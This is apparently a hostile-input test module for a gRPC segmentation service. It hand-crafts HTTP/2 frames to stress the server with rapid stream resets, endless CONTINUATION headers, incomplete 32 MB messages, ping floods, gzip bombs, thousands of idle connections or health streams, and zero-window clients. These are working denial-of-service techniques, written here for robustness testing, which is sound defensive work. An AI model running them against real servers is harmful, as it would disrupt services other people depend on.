"""Attacks by connections: HTTP/2 by hand, and calls that nobody needs."""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
import zlib
from collections import Counter
from typing import Protocol

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from masklet.v1 import common_pb2, image_pb2, tracking_pb2_grpc
from tests.hostile.target import CLICK, Outcome, Target, as_client, connect, ended, jpeg

SEGMENT_IMAGE = "/masklet.v1.TrackingService/SegmentImage"
HEADERS, DATA, RESET, SETTINGS, PING, CONTINUATION, WINDOW = 1, 0, 3, 4, 6, 9, 8


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def headers(path: str = SEGMENT_IMAGE, **more: str) -> bytes:
    """The headers of a call, without compression."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "x",
        "te": "trailers",
        "content-type": "application/grpc",
        **{name.replace("_", "-"): value for name, value in more.items()},
    }
    return b"".join(field(name, value) for name, value in fields.items())


def field(name: str, value: str) -> bytes:
    """One of the headers."""
    return b"\0" + _text(name) + _text(value)


def _text(text: str) -> bytes:
    data = text.encode()
    length, prefix = len(data), b""
    if length < 127:
        return bytes([length]) + data
    length, prefix = length - 127, b"\x7f"
    while length >= 128:
        prefix += bytes([length % 128 + 128])
        length //= 128
    return prefix + bytes([length]) + data


class Address(Protocol):
    """Where a server listens."""

    @property
    def address(self) -> str:
        """HOST:PORT."""


async def raw(target: Address, window: int = 2**31 - 1) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection that has begun to speak HTTP/2, and lets the server send so much on each stream."""
    reader, writer = await asyncio.open_connection(*target.address.rsplit(":", 1))
    writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    writer.write(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
    writer.write(frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
    return reader, writer


async def messages_without_an_end(target: Target) -> Outcome:
    """60 connections without a token; each sends all of a message of 32 MB but the last kilobyte."""

    async def one(number: int) -> str:
        reader, writer = await asyncio.open_connection(*target.address.rsplit(":", 1))
        answering = asyncio.create_task(_all_that_comes(reader))
        with contextlib.suppress(ConnectionError, asyncio.TimeoutError):
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
            writer.write(frame(HEADERS, 4, 1, headers()))
            writer.write(frame(DATA, 0, 1, b"\0" + (32 * 10**6).to_bytes(4, "big")))
            for _ in range(2000):
                writer.write(frame(DATA, 0, 1, bytes(16_000)))
                await asyncio.wait_for(writer.drain(), 3)
        await asyncio.sleep(5)
        is_open = not answering.done()
        writer.close()
        answer = await answering
        return f"{status_of(answer)}, {'open' if is_open else 'ended'}"

    return Counter(await asyncio.gather(*map(one, range(60))))


async def resets(target: Target) -> Outcome:
    """One connection opens streams and resets them, as fast as it can; health checks come from another one."""
    ended_well: Outcome = Counter()
    async with connect(target, 1) as attacking, connect(target, 2) as watching:
        health = health_pb2_grpc.HealthStub(watching)
        stub = tracking_pb2_grpc.TrackingServiceStub(attacking)
        count, until = 0, time.monotonic() + 8

        async def flood() -> None:
            nonlocal count
            while time.monotonic() < until:
                for _ in range(100):
                    stub.Track(metadata=as_client("m")).cancel()
                    count += 1
                await asyncio.sleep(0)

        flooding = asyncio.create_task(flood())
        while time.monotonic() < until:
            try:
                await health.Check(health_pb2.HealthCheckRequest(), timeout=2)
                ended_well["health OK"] += 1
            except grpc.aio.AioRpcError as error:
                ended_well[f"health {error.code().name}"] += 1
            await asyncio.sleep(0.05)
        await flooding
        ended_well["resets"] = count
    return ended_well


async def idle_connections(target: Target) -> Outcome:
    """2,000 connections that say nothing; then one more that asks for the server's health."""
    connections = [await asyncio.open_connection(*target.address.rsplit(":", 1)) for _ in range(2000)]
    try:
        async with connect(target) as channel:
            call = health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=20)
            with contextlib.suppress(grpc.aio.AioRpcError):
                await call
            return Counter([f"health {await ended(call)}"])
    finally:
        for _, writer in connections:
            writer.close()


async def endless_headers(target: Target) -> Outcome:
    """100 connections without a token; each sends the headers of one call for ever, up to 200 MB, and stays open."""
    writers = []

    async def one() -> str:
        _, writer = await raw(target)
        writers.append(writer)
        try:
            writer.write(frame(HEADERS, 0, 1, headers()))
            for i in range(20_000):
                writer.write(frame(CONTINUATION, 0, 1, field(f"x{i}", "y" * 10_000)))
                await asyncio.wait_for(writer.drain(), 3)
        except (ConnectionError, asyncio.TimeoutError):
            return "ended"
        return "sent all"

    outcome = Counter(await asyncio.gather(*(one() for _ in range(100))))
    await asyncio.sleep(3)
    for writer in writers:
        writer.close()
    return outcome


async def pings(target: Target) -> Outcome:
    """A connection that only pings, fast."""
    _, writer = await raw(target)
    try:
        for _ in range(2000):
            writer.write(frame(PING, 0, 0, b"12345678") * 100)
            await asyncio.wait_for(writer.drain(), 3)
    except (ConnectionError, asyncio.TimeoutError):
        return Counter(["ended"])
    return Counter(["sent all"])


async def gzip_bombs(target: Target) -> Outcome:
    """48 requests of 32 MB of zeros in 32 kB, without a token and with one; and 48 whose gzip is damaged."""
    picture = common_pb2.Picture(format=common_pb2.PICTURE_FORMAT_ENCODED, data=bytes(32 * 10**6 - 1000))
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = packer.compress(image_pb2.SegmentImageRequest(picture=picture).SerializeToString()) + packer.flush()
    outcome: Outcome = Counter()
    for name, data, token in (
        ("bomb, no token", bomb, ""),
        ("bomb", bomb, "m"),
        ("damaged", b"\x1f\x8b" + bytes(99), "m"),
    ):
        answers = await asyncio.gather(*(ask_by_hand(target, data, token) for _ in range(48)))
        outcome += Counter(f"{name}: {answer}" for answer in answers)
    return outcome


async def ask_by_hand(target: Address, data: bytes, token: str = "", encoding: str = "gzip") -> str:
    """Send one message that is said to be compressed; returns the name of the status."""
    reader, writer = await raw(target)
    credentials = {"authorization": f"Bearer {token}"} if token else {}
    try:
        writer.write(frame(HEADERS, 4, 1, headers(grpc_encoding=encoding, **credentials)))
        message = b"\1" + len(data).to_bytes(4, "big") + data
        for start in range(0, len(message), 16_000):
            writer.write(frame(DATA, int(start + 16_000 >= len(message)), 1, message[start : start + 16_000]))
        return status_of(await asyncio.wait_for(_all_of_a_call(reader), 60))
    except ConnectionError:
        return "ended"
    except asyncio.TimeoutError:
        return "silent"
    finally:
        writer.close()


async def _all_that_comes(reader: asyncio.StreamReader) -> bytes:
    """What comes until the connection ends."""
    found = b""
    with contextlib.suppress(ConnectionError):
        while part := await reader.read(65536):
            found += part
    return found


async def _all_of_a_call(reader: asyncio.StreamReader) -> bytes:
    """What comes until the stream ends."""
    found = b""
    while True:
        head = await reader.readexactly(9)
        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
        if head[3] == HEADERS:
            found += payload
        if head[3] == RESET or (head[3] in (HEADERS, DATA) and head[4] & 1):
            return found


def status_of(headers_block: bytes) -> str:
    """The status in the headers at a call's end. gRPC's server writes it without Huffman's code."""
    place = headers_block.find(b"grpc-status")
    if place < 0:
        return "reset"
    text = headers_block[place + 12 : place + 12 + headers_block[place + 11]].decode()
    return next((code.name for code in grpc.StatusCode if str(code.value[0]) == text), text)


async def health_watchers(target: Target) -> Outcome:
    """5,000 streams of the health service without a token, over 50 connections.

    CANCELLED is gRPC's core: it ends calls itself when thousands wait to be begun (`grpc.server.max_pending_requests`).
    """
    channels = [
        grpc.aio.insecure_channel(
            target.address, options=[("grpc.use_local_subchannel_pool", 1), ("masklet.number", i)]
        )
        for i in range(50)
    ]
    stubs = [health_pb2_grpc.HealthStub(channel) for channel in channels]
    calls = [stub.Watch(health_pb2.HealthCheckRequest()) for stub in stubs for _ in range(100)]

    async def first(call: grpc.aio.UnaryStreamCall[object, object]) -> str:
        try:
            await asyncio.wait_for(call.read(), 30)
        except grpc.aio.AioRpcError as error:
            return error.code().name
        except asyncio.TimeoutError:
            return "waits"
        return "served"

    outcome = Counter(await asyncio.gather(*map(first, calls)))
    for channel in channels:
        await channel.close()
    return outcome


async def deaf_clients(target: Target) -> Outcome:
    """64 requests with large responses, on connections that let the server send nothing (it waits 15 s here)."""
    picture = jpeg(512)
    prompts = [image_pb2.SegmentPrompt(points=CLICK)] * 32
    request = image_pb2.SegmentImageRequest(
        picture=common_pb2.Picture(format=common_pb2.PICTURE_FORMAT_ENCODED, data=picture),
        prompts=prompts,
        multimask_output=True,
        return_logits=True,
    ).SerializeToString()
    message = b"\0" + len(request).to_bytes(4, "big") + request
    connections = []
    for _ in range(64):
        reader, writer = await raw(target, window=0)
        connections.append((reader, writer))
        writer.write(frame(HEADERS, 4, 1, headers(authorization="Bearer m")))
        for start in range(0, len(message), 16_000):
            writer.write(frame(DATA, int(start + 16_000 >= len(message)), 1, message[start : start + 16_000]))
    await asyncio.sleep(45)
    outcome = Counter("ended" if reader.at_eof() else "open" for reader, _ in connections)
    for _, writer in connections:
        writer.close()
    return outcome
